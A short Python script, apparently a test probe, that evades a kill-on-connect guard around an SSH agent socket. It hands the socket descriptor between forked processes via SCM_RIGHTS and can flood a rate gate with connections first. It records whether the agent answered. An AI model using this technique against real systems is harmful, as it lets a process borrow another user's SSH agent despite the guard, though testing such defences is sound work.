"""flight [flood PORT HOST] SOCKET: borrows an SSH agent with the socket on its way between two processes.

Whoever connects expects to be killed at it, and its socket is in nobody's table of descriptors then: it lies in the
queue of a pair of sockets, and a child takes it from there two seconds later.  With "flood" as many other connections
are tried first as a gate tells of in a second.  What became of it is written to /tmp/flight.
"""

import os
import socket
import sys
import time

REQUEST = b"\0\0\0\1\x0b"  # SSH_AGENTC_REQUEST_IDENTITIES


def use_later(pair):
    time.sleep(2)
    _, fds, _, _ = socket.recv_fds(pair, 1, 1)
    sock = socket.socket(fileno=fds[0])
    try:
        sock.settimeout(5)
        sock.sendall(REQUEST)
        return "used" if sock.recv(5) else "cut"
    except OSError:
        return "cut"


def flood(host, port):
    for _ in range(100):
        with socket.socket() as sock:
            sock.settimeout(0.01)
            sock.connect_ex((host, port))


def keep_open(sock, pair):
    """In the ordinary way: a child has it by fork."""
    if os.fork() != 0:
        return
    time.sleep(1)
    socket.send_fds(pair, [b"x"], [sock.fileno()])
    time.sleep(8)
    os._exit(0)


def main():
    *words, path = sys.argv[1:]
    near, far = socket.socketpair()
    if os.fork() == 0:
        near.close()
        said = use_later(far)
        with open("/tmp/flight.new", "w", encoding="ascii") as file:
            file.write(said)
        os.rename("/tmp/flight.new", "/tmp/flight")
        os._exit(0)
    far.close()
    sock = socket.socket(socket.AF_UNIX)
    if words:
        keep_open(sock, near)
        flood(words[2], int(words[1]))
    else:
        socket.send_fds(near, [b"x"], [sock.fileno()])
    sock.connect(path)
    sys.exit("not killed")


main()
